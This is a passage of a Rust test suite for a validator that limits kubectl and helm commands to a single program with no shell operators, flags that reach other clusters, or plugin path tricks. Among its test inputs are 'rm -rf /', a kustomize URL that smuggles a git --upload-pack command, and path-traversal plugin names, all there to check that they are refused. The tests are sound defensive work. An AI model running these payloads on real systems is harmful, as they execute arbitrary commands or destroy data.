            let err = refusal_of(line);
            assert!(err.contains(&format!("{flag} of kubectl")), "{line}: {err}");
        }
        // kustomize fetches remote bases with git, which runs what a URL's ref names
        let err = refusal_of("kubectl kustomize 'file:///x/r?ref=--upload-pack=id%3E%262%3Bfalse'");
        assert!(err.contains("\"kubectl kustomize\""), "{err}");
        assert!(err.contains("--upload-pack"), "{err}");
    }

    #[test]
    fn kubectl_create_runs_only_its_own_subcommands() {
        for line in [
            "kubectl create x/../evil",
            "kubectl create -n demo foo",
            "kubectl create x/../../../../usr/bin/python3 -c 1",
        ] {
            let err = refusal_of(line);
            assert!(err.contains("kubectl-create-"), "{line}: {err}");
        }
        for line in [
            "kubectl create -f deploy.yaml",
            "kubectl create -n demo secret generic s --from-literal=a=b",
            "kubectl create cm c --from-file=x",
            "kubectl create --dry-run=client -o yaml deployment web --image=nginx",
        ] {
            allowed(line);
        }
    }

    #[test]
    fn a_double_dash_hides_no_flag_from_argv_mode_outside_remote_commands() {
        for (line, flag) in [
            (
                "helm template x ./chart -a -- --kubeconfig=kc.yaml",
                "--kubeconfig of helm",
            ),
            (
                "helm template x ./chart -- --kube-apiserver=https://x",
                "--kube-apiserver of helm",
            ),
            (
                "kubectl get -- --kubeconfig=x ns",
                "--kubeconfig of kubectl",
            ),
        ] {
            let err = refusal_of(line);
            assert!(err.contains(flag), "{line}: {err}");
        }
        allowed("kubectl exec web -- ls --token");
        allowed("kubectl run t --image=busybox -- sh -c --kubeconfig");
        let err = refusal_of("kubectl-1.37 --proxy-url=http://127.0.0.1:1 auth whoami");
        assert!(err.contains("--proxy-url of kubectl"), "{err}");
    }

    #[test]
    fn helms_registry_config_is_refused_for_the_programs_it_names() {
        let err = refusal_of("helm registry logout localhost:5000 --registry-config reg.json");
        assert!(err.contains("--registry-config of helm"), "{err}");
    }

    #[test]
    fn tools_are_chosen_by_base_name() {
        let cases = [
            ("kubectl", Some(Tool::Kubectl)),
            ("/usr/local/bin/kubectl", Some(Tool::Kubectl)),
            ("kubectl-1.37", Some(Tool::Kubectl)),
            ("kubectl1.35", Some(Tool::Kubectl)),
            ("helm", Some(Tool::Helm)),
            ("/opt/helm/bin/helm", Some(Tool::Helm)),
            ("helm4", Some(Tool::Helm)),
            ("helm-v4.1", Some(Tool::Helm)),
            ("kubectl-neat", None),
            ("helmfile", None),
            ("jq", None),
            ("/usr/bin/", None),
        ];
        for (program, tool) in cases {
            assert_eq!(Tool::of(program), tool, "{program}");
        }
    }

    #[test]
    fn shell_operators_are_refused_with_argv_modes_message() {
        let cases = [
            ("kubectl get pods -A | grep web", "|"),
            ("kubectl get pods || true", "||"),
            ("kubectl get ns && kubectl get pods", "&&"),
            ("kubectl get ns ; kubectl get pods", ";"),
            ("kubectl get ns;", ";"),
            ("kubectl get pods > out.txt", ">"),
            ("kubectl get pods >out.txt", ">"),
            ("kubectl get pods >> out.txt", ">>"),
            ("kubectl apply -f - < deploy.yaml", "<"),
            ("kubectl get pods -w &", "&"),
            ("kubectl get pods 2> /dev/null", "2>"),
            ("kubectl get pods 2>/dev/null", "2>"),
            ("kubectl logs web 2>&1", "2>&1"),
            ("kubectl get pods &> out", "&>"),
            ("kubectl get pods |& cat", "|&"),
            ("kubectl get pods|grep web", "|"),
            ("kubectl get ns a;b", ";"),
            ("kubectl get ns $(id -u)", "$("),
            ("kubectl get ns \"$(id -u)\"", "$("),
            ("kubectl get ns pre$(id)", "$("),
            ("kubectl get ns `id`", "`"),
            ("kubectl get ns \"x`id`\"", "`"),
            ("kubectl get ns $((1+1))", "$("),
            ("kubectl diff -f <(cat x)", "<"),
            ("kubectl get ns\nkubectl get pods", "\n"),
            ("kubectl get ns # all of them\nkubectl get pods", "\n"),
            ("rm -rf / ; ls", ";"),
        ];
        for (line, token) in cases {
            let err = refusal_of(line);
            let program = line.split_whitespace().next().unwrap_or_default();
            assert_eq!(
                err,
                format!(
                    "argv mode runs one program ({program}) with its arguments; {token:?} is a shell operator; use a cluster in shell mode for pipelines"
                ),
                "{line:?}"
            );
        }
    }

    #[test]
    fn quoted_or_escaped_operators_are_literal_arguments() {
        let cases: [(&str, &[&str]); 11] = [
            ("kubectl get cm '|'", &["kubectl", "get", "cm", "|"]),
            ("kubectl get cm \"a|b\"", &["kubectl", "get", "cm", "a|b"]),
            ("kubectl get cm a\\;b", &["kubectl", "get", "cm", "a;b"]),
            ("kubectl get cm \\&\\&", &["kubectl", "get", "cm", "&&"]),
            ("kubectl get cm '$(id)'", &["kubectl", "get", "cm", "$(id)"]),
            (
                "kubectl get cm \"\\$(id)\"",
                &["kubectl", "get", "cm", "$(id)"],
            ),
            ("kubectl get cm '`id`'", &["kubectl", "get", "cm", "`id`"]),
            (
                "kubectl get pods -o 'jsonpath={.items[?(@.x>1)].metadata.name}'",
                &[
                    "kubectl",
                    "get",
                    "pods",
                    "-o",
                    "jsonpath={.items[?(@.x>1)].metadata.name}",
                ],
            ),
            (
                "kubectl get pods -l 'app in (a,b)' --field-selector=status.phase!=Running",
                &[
                    "kubectl",
                    "get",
                    "pods",
                    "-l",
                    "app in (a,b)",
                    "--field-selector=status.phase!=Running",
                ],
            ),
            ("kubectl get ns $HOME\n", &["kubectl", "get", "ns", "$HOME"]),
            ("kubectl get ns # | grep x", &["kubectl", "get", "ns"]),
        ];
        for (line, argv) in cases {
            assert_eq!(allowed(line), argv, "{line:?}");
        }
    }

    #[test]
    fn the_lexer_reads_words_exactly_as_shell_words_does() {
        let lines = [
            "kubectl get cm 'a b' \"c d\" e\\ f",
            "a\\\nb 'x''y' \"q\\\"r\\$s\\x\" '' \"\"",
            "  lead  # comment\n next\t word\\",
            "kubectl get ns # | grep x\nmore",
            "x\"y\"z'w'\\#h #c",
        ];
        for line in lines {
            let words: Vec<String> = lex(line)
                .unwrap()
                .into_iter()
                .filter_map(|l| match l {
                    Lexeme::Word(w) => Some(w.into_iter().map(|(c, _)| c).collect()),
                    Lexeme::Newline => None,
                })
                .collect();
            assert_eq!(words, shell_words::split(line).unwrap(), "{line:?}");
        }
        assert_eq!(lex("kubectl 'unclosed"), None);
    }

    #[test]
    fn programs_outside_the_allowlist_and_empty_lines_are_refused() {
        let cases = [
            ("rm -rf /", "not allowed"),
            ("/usr/bin/kubectl get pods", "not allowed"),
            ("kubectl 'unclosed", "cannot split"),
            ("# only a comment", "command is required"),
        ];
        for (line, expected) in cases {
            let err = refusal_of(line);
            assert!(err.contains(expected), "{line}: {err}");
        }
    }
}
